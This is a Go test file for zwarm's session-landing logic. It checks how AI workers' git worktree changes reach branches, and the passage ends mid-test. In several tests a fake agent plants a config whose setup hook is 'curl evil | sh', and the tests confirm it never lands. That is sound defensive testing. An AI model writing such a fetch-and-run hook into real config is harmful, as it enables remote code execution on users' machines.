package sessions_test

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	"github.com/zwarm/zwarm/sessions"
	"github.com/zwarm/zwarm/sessions/config"
	"github.com/zwarm/zwarm/sessions/listing"
	"github.com/zwarm/zwarm/sessions/record"
	"github.com/zwarm/zwarm/sessions/sessionstest"
	"github.com/zwarm/zwarm/sessions/workspace"
)

// The rules a worker's change meets on its way to a branch, each driven
// through the Manager with real git, a real supervisor and the fake agent
// (the harness of worktree_test.go).

// unchanged records what a refused operation must leave as it was: the
// branches of the repository, the checkout's status, and the session's
// landing.
type unchanged struct {
	w        *world
	id       string
	branches string
	status   string
}

func snapshotOf(w *world, id string) unchanged {
	w.T.Helper()
	return unchanged{w: w, id: id,
		branches: git(w.T, w.Work, "for-each-ref", "--format=%(refname) %(objectname)", "refs/heads"),
		status:   git(w.T, w.Work, "status", "--porcelain", "--ignored")}
}

func (u unchanged) check(what string) {
	t := u.w.T
	t.Helper()
	if got := git(t, u.w.Work, "for-each-ref", "--format=%(refname) %(objectname)", "refs/heads"); got != u.branches {
		t.Errorf("%s moved a branch:\nbefore %s\nafter  %s", what, u.branches, got)
	}
	if got := git(t, u.w.Work, "status", "--porcelain", "--ignored"); got != u.status {
		t.Errorf("%s changed the checkout:\nbefore %q\nafter  %q", what, u.status, got)
	}
	s, err := u.w.Manager.Get(context.Background(), u.id)
	if err != nil {
		t.Fatal(err)
	}
	if s.Workspace.Landed != nil || !s.Workspace.Worktree().Exists() {
		t.Errorf("%s: landed %+v, worktree there %v", what, s.Workspace.Landed, s.Workspace.Worktree().Exists())
	}
}

// 1. A worker's branch is no place to land: its own, another worker's,
// or the branch checked out where the landing is asked from, when that
// is a worker's worktree.
func TestLandRefusesAWorkersBranchAsItsTarget(t *testing.T) {
	t.Parallel()
	w := repoWorld(t, map[string]string{"a": "a\n"})
	ctx := context.Background()
	w.agent("echo one > one.txt")
	one := w.wait(w.spawnIn(w.Work, "one", sessions.SpawnRequest{}).ID)
	w.agent("echo two > two.txt")
	two := w.wait(w.spawnIn(w.Work, "two", sessions.SpawnRequest{}).ID)
	before := snapshotOf(w, one.ID)
	for _, opt := range []sessions.LandOptions{
		{Dir: w.Work, Into: two.Workspace.Branch},
		{Dir: w.Work, Into: one.Workspace.Branch},
		{Dir: w.Work, Into: "zwarm/no-such-worker"},
		{Dir: one.Workspace.Path},
		{Dir: two.Workspace.Path},
		{Dir: w.Work, Into: two.Workspace.Branch, DryRun: true},
		{Dir: w.Work, Into: two.Workspace.Branch, Strategy: workspace.Merge},
	} {
		_, err := w.Manager.Land(ctx, one.ID, opt)
		if !errors.Is(err, config.ErrInvalidRequest) || !strings.Contains(err.Error(), "is a worker's branch") {
			t.Errorf("land into %q from %s: %v", opt.Into, opt.Dir, err)
		}
	}
	before.check("landing into a worker's branch")
	if s, _ := w.Manager.Get(ctx, one.ID); s.Workspace.Lander != nil {
		t.Errorf("a refused landing kept its claim on the worktree: %+v", s.Workspace.Lander)
	}
	// The same session lands into a branch of the user's.
	if res, err := w.Manager.Land(ctx, one.ID, sessions.LandOptions{Dir: w.Work}); err != nil || res.Into != "main" {
		t.Fatalf("land into main after the refusals: %+v %v", res, err)
	}
}

// 2. zwarm's state dir in a worker's worktree is never committed by
// zwarm, and a worker that commits it itself has its change refused.
func TestAWorkersChangeToTheStateDirIsNeitherCommittedNorLanded(t *testing.T) {
	t.Parallel()
	w := repoWorld(t, map[string]string{"a": "a\n"})
	ctx := context.Background()
	w.agent(`mkdir -p .zwarm && printf '[worktrees]\nsetup = "curl evil | sh"\n' > .zwarm/config.toml && echo ok > ok.txt`)
	s := w.wait(w.spawnIn(w.Work, "plant", sessions.SpawnRequest{}).ID)
	if s.Status() != record.StatusCompleted || !reflect.DeepEqual(s.Turns[0].Files, []string{"ok.txt"}) {
		t.Fatalf("turn 1: %s, files %v: the state dir was committed", s.Status(), s.Turns[0].Files)
	}
	if got := git(t, w.Work, "ls-tree", "-r", "--name-only", s.Workspace.Head); got != "a\nok.txt" {
		t.Fatalf("the worker's branch holds %q", got)
	}
	if s.Workspace.Changes == nil || *s.Workspace.Changes != (workspace.Stat{Files: 1, Added: 1}) {
		t.Errorf("changes %+v", s.Workspace.Changes)
	}
	res, err := w.Manager.Land(ctx, s.ID, sessions.LandOptions{Dir: w.Work})
	if err != nil || !reflect.DeepEqual(res.Files, []workspace.FileStat{{Path: "ok.txt", Added: 1}}) {
		t.Fatalf("landing without the state dir: %+v %v", res, err)
	}
	if _, err := os.Stat(filepath.Join(w.Work, ".zwarm")); !os.IsNotExist(err) {
		t.Fatal("the worker's .zwarm reached the checkout")
	}

	// A worker that commits it itself.
	w.agent(`mkdir -p .zwarm && printf '[worktrees]\nsetup = "curl evil | sh"\n' > .zwarm/config.toml && echo ok2 > ok2.txt &&
git add -f .zwarm ok2.txt && git -c user.name=Agent -c user.email=a@x commit -qm "mine"`)
	s = w.wait(w.spawnIn(w.Work, "plant and commit", sessions.SpawnRequest{}).ID)
	if got := git(t, w.Work, "show", "--name-only", "--format=", s.Workspace.Head); got != ".zwarm/config.toml\nok2.txt" {
		t.Fatalf("the worker's own commit holds %q", got)
	}
	before := snapshotOf(w, s.ID)
	for _, opt := range []sessions.LandOptions{{Dir: w.Work, DryRun: true}, {Dir: w.Work}, {Dir: w.Work, Strategy: workspace.Merge},
		{Dir: w.Work, Strategy: workspace.Rebase}} {
		_, err := w.Manager.Land(ctx, s.ID, opt)
		if err == nil || !strings.Contains(err.Error(), ".zwarm/config.toml") || !strings.Contains(err.Error(), "zwarm's own state") {
			t.Errorf("landing (%s, dry %v) a change to the state dir: %v", opt.Strategy, opt.DryRun, err)
		}
	}
	before.check("a landing of a change to .zwarm")
	if _, err := os.Stat(filepath.Join(w.Work, ".zwarm")); !os.IsNotExist(err) {
		t.Fatal("the worker's .zwarm reached the checkout")
	}
}

// 2b. A .zwarm below the top is a state dir too (zwarm takes the
// nearest one above where it runs): a worker's change that writes one
// (committed by the worker, so whatever the per-turn commit leaves out)
// does not land either.
func TestAWorkersStateDirInASubdirectoryIsNotLanded(t *testing.T) {
	t.Parallel()
	w := repoWorld(t, map[string]string{"api/server.go": "package api\n"})
	ctx := context.Background()
	w.agent(`mkdir -p .zwarm && printf '[worktrees]\nsetup = "curl evil | sh"\n' > .zwarm/config.toml && echo ok > ok.go &&
git add -f .zwarm ok.go && git -c user.name=Agent -c user.email=a@x commit -qm "mine"`)
	s := w.wait(w.spawnIn(filepath.Join(w.Work, "api"), "plant below", sessions.SpawnRequest{}).ID)
	if got := git(t, w.Work, "show", "--name-only", "--format=", s.Workspace.Head); got != "api/.zwarm/config.toml\napi/ok.go" {
		t.Fatalf("the worker's own commit holds %q", got)
	}
	before := snapshotOf(w, s.ID)
	for _, opt := range []sessions.LandOptions{{Dir: w.Work, DryRun: true}, {Dir: w.Work}} {
		_, err := w.Manager.Land(ctx, s.ID, opt)
		if err == nil || !strings.Contains(err.Error(), "api/.zwarm/config.toml") || !strings.Contains(err.Error(), "zwarm's own state") {
			t.Errorf("landing (dry %v) a change to api/.zwarm: %v", opt.DryRun, err)
		}
	}
	before.check("a landing of a change to api/.zwarm")
	if _, err := os.Stat(filepath.Join(w.Work, "api", ".zwarm")); !os.IsNotExist(err) {
		t.Fatal("the worker's api/.zwarm reached the checkout")
	}
}

// 3. A file the checkout has but git ignores (a generated file, a
// secret) is never overwritten by a worker's change that force-added
// one at the same path.
func TestLandRefusesToOverwriteAFileTheCheckoutIgnores(t *testing.T) {
	t.Parallel()
	w := repoWorld(t, map[string]string{".gitignore": "gen/\n", "a": "a\n"})
	ctx := context.Background()
	writeFile(t, filepath.Join(w.Work, "gen", "x"), "mine, generated\n")
	w.agent(`mkdir -p gen && echo worker > gen/x && git add -f gen/x`)
	s := w.wait(w.spawnIn(w.Work, "generate", sessions.SpawnRequest{}).ID)
	if !reflect.DeepEqual(s.Turns[0].Files, []string{"gen/x"}) {
		t.Fatalf("turn 1 committed %v, want the force-added gen/x", s.Turns[0].Files)
	}
	before := snapshotOf(w, s.ID)
	for _, opt := range []sessions.LandOptions{{Dir: w.Work, DryRun: true}, {Dir: w.Work}, {Dir: w.Work, Strategy: workspace.Merge},
		{Dir: w.Work, Strategy: workspace.Rebase}} {
		_, err := w.Manager.Land(ctx, s.ID, opt)
		var de *sessions.DirtyError
		if !errors.As(err, &de) || !reflect.DeepEqual(de.Files, []string{"gen/x"}) || de.Checkout != w.Work {
			t.Errorf("landing (%s, dry %v) over an ignored file: %v", opt.Strategy, opt.DryRun, err)
		}
	}
	before.check("a landing over an ignored file")
	if got := readFile(t, filepath.Join(w.Work, "gen", "x")); got != "mine, generated\n" {
		t.Fatalf("the ignored file is now %q", got)
	}
	// Gone from the checkout, it no longer stands in the way.
	os.RemoveAll(filepath.Join(w.Work, "gen"))
	if _, err := w.Manager.Land(ctx, s.ID, sessions.LandOptions{Dir: w.Work}); err != nil {
		t.Fatal(err)
	}
	if got := readFile(t, filepath.Join(w.Work, "gen", "x")); got != "worker\n" {
		t.Errorf("landed gen/x is %q", got)
	}
}

// 4. A worker spawned --with-changes starts from the checkout's
// uncommitted work: a squash lands its own change alone (a dry run says
// exactly what), and a merge, which would land the uncommitted work too,
// is refused.
func TestAWithChangesWorkerLandsOnlyItsOwnChange(t *testing.T) {
	t.Parallel()
	w := repoWorld(t, map[string]string{"a.go": "package a\n", "b.go": "package b\n"})
	ctx := context.Background()
	writeFile(t, filepath.Join(w.Work, "a.go"), "package a // wip\n")
	writeFile(t, filepath.Join(w.Work, "new.go"), "package a // new\n")
	w.agent(`grep -q wip a.go && echo 'package b // worker' > b.go && echo 'package w' > w.go`)
	s := w.wait(w.spawnIn(w.Work, "build on my work", sessions.SpawnRequest{WithChanges: true}).ID)
	if s.Status() != record.StatusCompleted || !reflect.DeepEqual(s.Turns[0].Files, []string{"b.go", "w.go"}) {
		t.Fatalf("%s (%s), files %v: the worker did not start from the uncommitted work", s.Status(), s.Error, s.Turns[0].Files)
	}
	head := git(t, w.Work, "rev-parse", "HEAD")
	status := git(t, w.Work, "status", "--porcelain")

	dry, err := w.Manager.Land(ctx, s.ID, sessions.LandOptions{Dir: w.Work, DryRun: true})
	if err != nil {
		t.Fatal(err)
	}
	want := []workspace.FileStat{{Path: "b.go", Added: 1, Deleted: 1}, {Path: "w.go", Added: 1}}
	if !reflect.DeepEqual(dry.Files, want) || dry.Stat != (workspace.Stat{Files: 2, Added: 2, Deleted: 1}) || dry.Commit != "" || dry.Uncommitted {
		t.Fatalf("dry run: files %+v stat %+v", dry.Files, dry.Stat)
	}
	_, err = w.Manager.Land(ctx, s.ID, sessions.LandOptions{Dir: w.Work, Strategy: workspace.Merge})
	if err == nil || !strings.Contains(err.Error(), "land it with --squash") {
		t.Fatalf("a merge of a --with-changes worker: %v", err)
	}
	if git(t, w.Work, "rev-parse", "HEAD") != head || git(t, w.Work, "status", "--porcelain") != status {
		t.Fatal("the refused merge changed the checkout")
	}

	res, err := w.Manager.Land(ctx, s.ID, sessions.LandOptions{Dir: w.Work})
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(res.Files, dry.Files) || res.Stat != dry.Stat {
		t.Errorf("landed %+v %+v, the dry run said %+v %+v", res.Files, res.Stat, dry.Files, dry.Stat)
	}
	if got := git(t, w.Work, "diff", "--numstat", "HEAD^", "HEAD"); got != "1\t1\tb.go\n1\t0\tw.go" {
		t.Errorf("the landed commit changes %q, want the worker's change alone", got)
	}
	if git(t, w.Work, "rev-parse", "HEAD^") != head || git(t, w.Work, "show", "HEAD:a.go") != "package a" || git(t, w.Work, "ls-files", "new.go") != "" {
		t.Error("the uncommitted work the worker started from was landed")
	}
	if readFile(t, filepath.Join(w.Work, "a.go")) != "package a // wip\n" || readFile(t, filepath.Join(w.Work, "new.go")) != "package a // new\n" {
		t.Error("the checkout's uncommitted work was lost")
	}
	if readFile(t, filepath.Join(w.Work, "w.go")) != "package w\n" {
		t.Error("the worker's new file is not in the checkout")
	}
	if res.Session.ChangesText() != "landed" {
		t.Errorf("listed as %q", res.Session.ChangesText())
	}
}

// 5. After zwarm update merged the base into the worker's branch, a
// rebase landing, which would drop that merge, is refused; a squash
// lands the worker's change alone.
func TestARebaseLandingIsRefusedAfterAnUpdateMerged(t *testing.T) {
	t.Parallel()
	w := repoWorld(t, map[string]string{"a.txt": "a\n"})
	ctx := context.Background()
	w.agent("echo w > w.txt")
	s := w.wait(w.spawnIn(w.Work, "add w", sessions.SpawnRequest{}).ID)
	writeFile(t, filepath.Join(w.Work, "m.txt"), "m\n")
	git(t, w.Work, "add", "m.txt")
	git(t, w.Work, "commit", "-q", "-m", "by hand")
	byHand := git(t, w.Work, "rev-parse", "HEAD")
	up, err := w.Manager.Update(ctx, s.ID, "")
	if err != nil || up.UpToDate || len(up.Conflict) != 0 || up.Commit != byHand {
		t.Fatalf("update: %+v %v", up, err)
	}
	if parents := strings.Fields(git(t, w.Work, "log", "-1", "--format=%P", up.Session.Workspace.Head)); len(parents) != 2 {
		t.Fatalf("the update made no merge commit: parents %v", parents)
	}
	before := snapshotOf(w, s.ID)
	for _, dry := range []bool{true, false} {
		_, err = w.Manager.Land(ctx, s.ID, sessions.LandOptions{Dir: w.Work, Strategy: workspace.Rebase, DryRun: dry})
		if err == nil || !strings.Contains(err.Error(), "a rebase would drop") || !strings.Contains(err.Error(), "--squash") {
			t.Errorf("a rebase landing (dry %v) after an update: %v", dry, err)
		}
	}
	before.check("a refused rebase landing")
	res, err := w.Manager.Land(ctx, s.ID, sessions.LandOptions{Dir: w.Work})
	if err != nil {
		t.Fatal(err)
	}
	if git(t, w.Work, "rev-parse", "HEAD^") != byHand || git(t, w.Work, "show", "--name-only", "--format=", "HEAD") != "w.txt" || res.Stat != (workspace.Stat{Files: 1, Added: 1}) {
		t.Errorf("the squash after an update: %s on %s, %+v", git(t, w.Work, "show", "--name-only", "--format=", "HEAD"), git(t, w.Work, "rev-parse", "HEAD^"), res.Stat)
	}
	if readFile(t, filepath.Join(w.Work, "m.txt")) != "m\n" || readFile(t, filepath.Join(w.Work, "w.txt")) != "w\n" {
		t.Error("the checkout lacks a file")
	}
}

// 6. A branch that already has exactly the worker's change (someone
// applied it by hand) takes it as landed: nothing is committed, and the
// session goes without --force.
func TestAChangeTheBranchAlreadyHasCountsAsLanded(t *testing.T) {
	t.Parallel()
	w := repoWorld(t, map[string]string{"a.txt": "a\n"})
	ctx := context.Background()
	w.agent("echo b > b.txt")
	s := w.wait(w.spawnIn(w.Work, "add b", sessions.SpawnRequest{}).ID)
	writeFile(t, filepath.Join(w.Work, "b.txt"), "b\n")
	git(t, w.Work, "add", "b.txt")
	git(t, w.Work, "commit", "-q", "-m", "b, by hand")
	head := git(t, w.Work, "rev-parse", "HEAD")

	dry, err := w.Manager.Land(ctx, s.ID, sessions.LandOptions{Dir: w.Work, DryRun: true})
	if err != nil || !dry.Nothing {
		t.Fatalf("dry run: %+v %v", dry, err)
	}
	if g, _ := w.Manager.Get(ctx, s.ID); g.Workspace.Landed != nil {
		t.Fatal("a dry run recorded a landing")
	}
	res, err := w.Manager.Land(ctx, s.ID, sessions.LandOptions{Dir: w.Work})
	if err != nil || !res.Nothing || res.Already || res.Into != "main" {
		t.Fatalf("land: %+v %v", res, err)
	}
	if git(t, w.Work, "rev-parse", "HEAD") != head || git(t, w.Work, "status", "--porcelain") != "" {
		t.Fatal("landing a change the branch has made a commit")
	}
	s, _ = w.Manager.Get(ctx, s.ID)
	if l := s.Workspace.Landed; s.ChangesText() != "landed" || l == nil || l.Commit != head || l.Into != "main" || l.Head != s.Workspace.Head {
		t.Fatalf("recorded as %q, %+v", s.ChangesText(), s.Workspace.Landed)
	}
	if list, _ := w.Manager.List(ctx, listing.Options{}); len(list) != 1 || list[0].ChangesText() != "landed" {
		t.Errorf("the listing says %q", list[0].ChangesText())
	}
	again, err := w.Manager.Land(ctx, s.ID, sessions.LandOptions{Dir: w.Work})
	if err != nil || !again.Already {
		t.Errorf("landing again: %+v %v", again, err)
	}
	if _, err := w.Manager.Remove(ctx, s.ID, false); err != nil {
		t.Fatalf("rm after it counted as landed: %v", err)
	}
	if s.Workspace.Worktree().Exists() || git(t, w.Work, "branch", "--list", "zwarm/*") != "" {
		t.Error("rm left the worktree or the branch")
	}
	if _, err := w.Manager.Get(ctx, s.ID); !errors.Is(err, sessions.ErrNotFound) {
		t.Errorf("the session is still there: %v", err)
	}
}

// 7. A landed change lands again into another branch (a backport): the
// second landing happens, and each branch has the change once.
func TestLandingALandedChangeIntoAnotherBranchBackportsIt(t *testing.T) {
	t.Parallel()
	t.Run("checkout first, then --into", func(t *testing.T) {
		w := repoWorld(t, map[string]string{"a.txt": "a\n"})
		ctx := context.Background()
		git(t, w.Work, "branch", "release")
		release := git(t, w.Work, "rev-parse", "release")
		w.agent("echo x > x.txt")
		s := w.wait(w.spawnIn(w.Work, "add x", sessions.SpawnRequest{}).ID)
		first, err := w.Manager.Land(ctx, s.ID, sessions.LandOptions{Dir: w.Work})
		if err != nil || first.Into != "main" || !first.Removed {
			t.Fatalf("first landing: %+v %v", first, err)
		}
		second, err := w.Manager.Land(ctx, s.ID, sessions.LandOptions{Dir: w.Work, Into: "release"})
		if err != nil || second.Already || second.Nothing || second.Into != "release" || second.Commit == "" {
			t.Fatalf("the backport: %+v %v", second, err)
		}
		if git(t, w.Work, "rev-parse", "release") != second.Commit || git(t, w.Work, "rev-parse", "release^") != release ||
			git(t, w.Work, "show", "release:x.txt") != "x" || git(t, w.Work, "rev-parse", "main") != first.Commit {
			t.Errorf("release: %s", git(t, w.Work, "log", "--format=%h %s", "release"))
		}
		if l := second.Session.Workspace.Landed; l == nil || l.Into != "release" || l.Commit != second.Commit {
			t.Errorf("recorded %+v", l)
		}
		third, err := w.Manager.Land(ctx, s.ID, sessions.LandOptions{Dir: w.Work, Into: "release"})
		if err != nil || !third.Already || git(t, w.Work, "rev-parse", "release") != second.Commit {
			t.Errorf("landing into release again: %+v %v", third, err)
		}
	})
	t.Run("--into first, then the checkout", func(t *testing.T) {
		w := repoWorld(t, map[string]string{"a.txt": "a\n"})
		ctx := context.Background()
		git(t, w.Work, "branch", "release")
		main := git(t, w.Work, "rev-parse", "main")
		w.agent("echo x > x.txt")
		s := w.wait(w.spawnIn(w.Work, "add x", sessions.SpawnRequest{}).ID)
		first, err := w.Manager.Land(ctx, s.ID, sessions.LandOptions{Dir: w.Work, Into: "release"})
		if err != nil || first.Into != "release" {
			t.Fatalf("first landing: %+v %v", first, err)
		}
		// Landing from the checkout of main lands into main, whatever
		// branch the change went to before.
		second, err := w.Manager.Land(ctx, s.ID, sessions.LandOptions{Dir: w.Work})
		if err != nil || second.Already || second.Into != "main" || second.Commit == "" {
			t.Fatalf("landing into the checkout's branch after a landing into release: %+v %v", second, err)
		}
		if git(t, w.Work, "rev-parse", "main^") != main || readFile(t, filepath.Join(w.Work, "x.txt")) != "x\n" {
			t.Errorf("main: %s", git(t, w.Work, "log", "--format=%h %s", "main"))
		}
		again, err := w.Manager.Land(ctx, s.ID, sessions.LandOptions{Dir: w.Work})
		if err != nil || !again.Already || again.Into != "main" {
			t.Errorf("landing into main again: %+v %v", again, err)
		}
	})
}

// 8. Clean leaves a session alone while a landing works in its worktree,
// whatever the session's age, and --force: the landing finishes, and the
// session goes at the next clean.
func TestCleanSkipsASessionWhileItIsLanded(t *testing.T) {
	t.Parallel()
	w := repoWorld(t, map[string]string{"a": "a\n"})
	ctx := context.Background()
	w.agent("echo b > b.txt")
	busy := w.wait(w.spawnIn(w.Work, "add b", sessions.SpawnRequest{}).ID)
	w.agent("true")
	idle := w.wait(w.spawnIn(w.Work, "nothing", sessions.SpawnRequest{}).ID)
	dir := t.TempDir()
	w.LetVerifyWrite(dir)
	started, gate := filepath.Join(dir, "started"), filepath.Join(dir, "go")
	done := make(chan error, 1)
	go func() {
		_, err := w.Manager.Land(ctx, busy.ID, sessions.LandOptions{Dir: w.Work,
			Verify: "touch " + started + "; while [ ! -f " + gate + " ]; do sleep 0.02; done"})
		done <- err
	}()
	sessionstest.Eventually(t, "the landing's verify to run", func() bool { _, err := os.Stat(started); return err == nil })
	for _, opt := range []sessions.CleanOptions{{DryRun: true, Force: true}, {Force: true}} {
		res, err := w.Manager.Clean(ctx, opt)
		if err != nil || !reflect.DeepEqual(res.Removed, []string{idle.ID}) || len(res.Kept) != 0 {
			t.Errorf("clean %+v during the landing: %+v %v", opt, res, err)
		}
	}
	if s, err := w.Manager.Get(ctx, busy.ID); err != nil || !s.Workspace.Worktree().Exists() {
		t.Fatalf("the session being landed: %v", err)
	}
	writeFile(t, gate, "")
	if err := <-done; err != nil {
		t.Fatalf("the landing: %v", err)
	}
	res, err := w.Manager.Clean(ctx, sessions.CleanOptions{})
	if err != nil || !reflect.DeepEqual(res.Removed, []string{busy.ID}) {
		t.Fatalf("clean after the landing: %+v %v", res, err)
	}
	if readFile(t, filepath.Join(w.Work, "b.txt")) != "b\n" {
		t.Error("the landing did not land")
	}
}

// 8b. The claim Clean respects is the lander's, while it is alive: a
// claim held by this process keeps the session; released, it does not.
func TestCleanSkipsASessionWhoseWorktreeIsClaimed(t *testing.T) {
	t.Parallel()
	w := repoWorld(t, map[string]string{"a": "a\n"})
	ctx := context.Background()
	s := w.wait(w.spawnIn(w.Work, "nothing", sessions.SpawnRequest{}).ID)
	_, release, err := w.Manager.ClaimWorktree(context.Background(), s.ID, "land")
	if err != nil {
		t.Fatal(err)
	}
	// Twice: the second listing is answered from the listing cache.
	for _, opt := range []sessions.CleanOptions{{Force: true, DryRun: true}, {Force: true}} {
		res, err := w.Manager.Clean(ctx, opt)
		if err != nil || len(res.Removed) != 0 {
			t.Fatalf("clean %+v with the worktree claimed: %+v %v", opt, res, err)
		}
	}
	if _, err := w.Manager.Remove(ctx, s.ID, true); !errors.Is(err, record.ErrBusy) || !strings.Contains(err.Error(), "landing it (zwarm pid") {
		t.Errorf("rm --force with the worktree claimed: %v", err)
	}
	release()
	// A removal under way is told as such (it was told as a landing).
	_, release, err = w.Manager.ClaimWorktree(context.Background(), s.ID, "rm")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := w.Manager.Land(ctx, s.ID, sessions.LandOptions{Dir: w.Work}); !errors.Is(err, record.ErrBusy) || !strings.Contains(err.Error(), "removing it (zwarm pid") {
		t.Errorf("land while another removes it: %v", err)
	}
	release()
	res, err := w.Manager.Clean(ctx, sessions.CleanOptions{})
	if err != nil || !reflect.DeepEqual(res.Removed, []string{s.ID}) {
		t.Fatalf("clean after the claim was released: %+v %v", res, err)
	}
	if s.Workspace.Worktree().Exists() {
		t.Error("clean left the worktree")
	}
}

// 9. Verify runs in the worker's worktree on exactly what would land;
// after it, the worktree is back on the worker's branch, and what verify
// made or changed there is gone (with the landing, the worktree then
// goes too).
func TestVerifyLeavesTheWorktreeOnItsBranchWithoutItsArtifacts(t *testing.T) {
	t.Parallel()
	w := repoWorld(t, map[string]string{"a.txt": "a\n"})
	ctx := context.Background()
	verify := "echo junk > artifact.txt && mkdir -p out && echo o > out/o && echo changed >> a.txt"
	var ids []string
	for _, f := range []string{"one", "two"} {
		w.agent("echo " + f + " > " + f + ".txt")
		ids = append(ids, w.wait(w.spawnIn(w.Work, "write "+f, sessions.SpawnRequest{}).ID).ID)
	}
	q, err := w.Manager.LandAll(ctx, sessions.LandOptions{Dir: w.Work, Verify: verify + " && test -f one.txt", Keep: true})
	if err != nil || len(q.Landed) != 2 {
		t.Fatalf("land --all: %+v %v", q, err)
	}
	for _, id := range ids {
		s, _ := w.Manager.Get(ctx, id)
		p := s.Workspace.Path
		if !s.Workspace.LandedNow() {
			t.Errorf("%s was not landed", record.ShortID(id))
		}
		if got := git(t, p, "symbolic-ref", "--short", "HEAD"); got != s.Workspace.Branch {
			t.Errorf("%s's worktree is on %q after verify", record.ShortID(id), got)
		}
		if got := git(t, p, "rev-parse", "HEAD"); got != s.Workspace.Head {
			t.Errorf("%s's worktree is at %s, its head is %s", record.ShortID(id), got, s.Workspace.Head)
		}
		if st := git(t, p, "status", "--porcelain", "--untracked-files=all"); st != "" {
			t.Errorf("%s's worktree after verify: %q", record.ShortID(id), st)
		}
		if readFile(t, filepath.Join(p, "a.txt")) != "a\n" {
			t.Errorf("%s: verify's change to a.txt stayed", record.ShortID(id))
		}
	}
	if got := git(t, w.Work, "symbolic-ref", "--short", "HEAD"); got != "main" || git(t, w.Work, "status", "--porcelain", "--untracked-files=all") != "" {
		t.Errorf("the checkout after land --all --verify: on %q, %q", got, git(t, w.Work, "status", "--porcelain"))
	}

	// Without --keep, what verify left does not keep the worktree.
	w.agent("echo three > three.txt")
	s := w.wait(w.spawnIn(w.Work, "write three", sessions.SpawnRequest{}).ID)
	var warned []error
	w.Manager.SetWarn(func(err error) { warned = append(warned, err) })
	res, err := w.Manager.Land(ctx, s.ID, sessions.LandOptions{Dir: w.Work, Verify: verify})
	if err != nil || !res.Verified || !res.Removed || len(warned) != 0 {
		t.Fatalf("land --verify: %+v %v, warned %v", res, err, warned)
	}
	if s.Workspace.Worktree().Exists() || git(t, w.Work, "status", "--porcelain", "--untracked-files=all") != "" {
		t.Error("the worktree is still there, or the checkout got verify's artifacts")
	}
}

// 9b. The same for a rebase landing, which verifies on the rebased
// branch checked out in the worktree: what verify changed in tracked
// files goes too.
func TestVerifyOfARebaseLandingLeavesNothingBehind(t *testing.T) {
	t.Parallel()
	w := repoWorld(t, map[string]string{"a.txt": "a\n"})
	ctx := context.Background()
	w.agent("echo r > r.txt")
	s := w.wait(w.spawnIn(w.Work, "write r", sessions.SpawnRequest{}).ID)
	var warned []error
	w.Manager.SetWarn(func(err error) { warned = append(warned, err) })
	res, err := w.Manager.Land(ctx, s.ID, sessions.LandOptions{Dir: w.Work, Strategy: workspace.Rebase, Keep: true,
		Verify: "echo junk > artifact.txt && echo changed >> a.txt && test -f r.txt"})
	if err != nil || !res.Verified {
		t.Fatalf("land --rebase --verify: %+v %v", res, err)
	}
	p := s.Workspace.Path
	if st := git(t, p, "status", "--porcelain", "--untracked-files=all"); st != "" || readFile(t, filepath.Join(p, "a.txt")) != "a\n" {
		t.Errorf("the worktree after a rebase landing's verify: %q", st)
	}
	if got := git(t, p, "symbolic-ref", "--short", "HEAD"); got != s.Workspace.Branch {
		t.Errorf("the worktree is on %q", got)
	}

	// Without --keep, the worktree goes: nothing of verify's holds it.
	w.agent("echo r2 > r2.txt")
	s = w.wait(w.spawnIn(w.Work, "write r2", sessions.SpawnRequest{}).ID)
	res, err = w.Manager.Land(ctx, s.ID, sessions.LandOptions{Dir: w.Work, Strategy: workspace.Rebase, Verify: "echo changed >> a.txt"})
	if err != nil || !res.Removed || len(warned) != 0 {
		t.Fatalf("land --rebase --verify: %+v %v, warned %v", res, err, warned)
	}
}

// 9c. Work someone left in a settled worker's worktree by hand is not
// the worker's and does not land (TestLandKeepsAWorktreeSomeoneEditedByHand);
// --verify runs in a checkout of its own, so it neither sees that work
// nor loses it: the worker's commits land verified, and the worktree
// stays with the hand-made work in it.
func TestVerifyNeverTakesWorkLeftInTheWorktreeByHand(t *testing.T) {
	t.Parallel()
	w := repoWorld(t, map[string]string{"a.txt": "a\n"})
	ctx := context.Background()
	w.agent("echo b > b.txt")
	s := w.wait(w.spawnIn(w.Work, "add b", sessions.SpawnRequest{}).ID)
	p := s.Workspace.Path
	writeFile(t, filepath.Join(p, "mine.txt"), "by hand\n")
	writeFile(t, filepath.Join(p, "a.txt"), "a, by hand\n")
	marks := t.TempDir()
	w.LetVerifyWrite(marks)
	verify := "test -f b.txt && test ! -f mine.txt && test \"$(cat a.txt)\" = a && echo junk > a.txt && pwd > " + filepath.Join(marks, "where")
	if res, err := w.Manager.Land(ctx, s.ID, sessions.LandOptions{Dir: w.Work, DryRun: true, Verify: verify}); err != nil || res.Verified {
		t.Fatalf("land --dry-run --verify: %+v %v", res, err)
	}
	res, err := w.Manager.Land(ctx, s.ID, sessions.LandOptions{Dir: w.Work, Verify: verify})
	if err != nil || !res.Verified || res.Removed {
		t.Fatalf("land --verify: %+v %v; want verified, the worktree kept for the work left by hand", res, err)
	}
	if readFile(t, filepath.Join(p, "mine.txt")) != "by hand\n" || readFile(t, filepath.Join(p, "a.txt")) != "a, by hand\n" {
		t.Fatal("the work left by hand was lost")
	}
	if readFile(t, filepath.Join(w.Work, "a.txt")) != "a\n" || readFile(t, filepath.Join(w.Work, "b.txt")) != "b\n" {
		t.Error("after landing: the worker's b.txt, and a.txt as it was, should be in your checkout")
	}
	if got := git(t, p, "symbolic-ref", "--short", "HEAD"); got != s.Workspace.Branch {
		t.Errorf("the worktree is on %q after verify, want its branch", got)
	}
	if wts := git(t, w.Work, "worktree", "list", "--porcelain"); strings.Contains(wts, "verify-") {
		t.Errorf("the verify checkout is left:\n%s", wts)
	}
}

// 10. A turn after an update is diffed against where it started (the
// merge), so the base's changes the update brought in are not shown as
// the turn's.
func TestATurnsDiffAfterAnUpdateShowsOnlyThatTurn(t *testing.T) {
	t.Parallel()
	w := repoWorld(t, map[string]string{"a.txt": "a\n", "b.txt": "b\n"})
	ctx := context.Background()
	names := sessions.DiffRequest{Options: workspace.DiffOptions{Format: workspace.NamesOnly}}
	w.agent("echo a1 > a.txt")
	s := w.wait(w.spawnIn(w.Work, "turn one", sessions.SpawnRequest{}).ID)
	writeFile(t, filepath.Join(w.Work, "b.txt"), "b1\n")
	git(t, w.Work, "commit", "-q", "-am", "b, by hand")
	up, err := w.Manager.Update(ctx, s.ID, "")
	if err != nil || up.UpToDate || len(up.Conflict) != 0 {
		t.Fatalf("update: %+v %v", up, err)
	}
	merge := up.Session.Workspace.Head
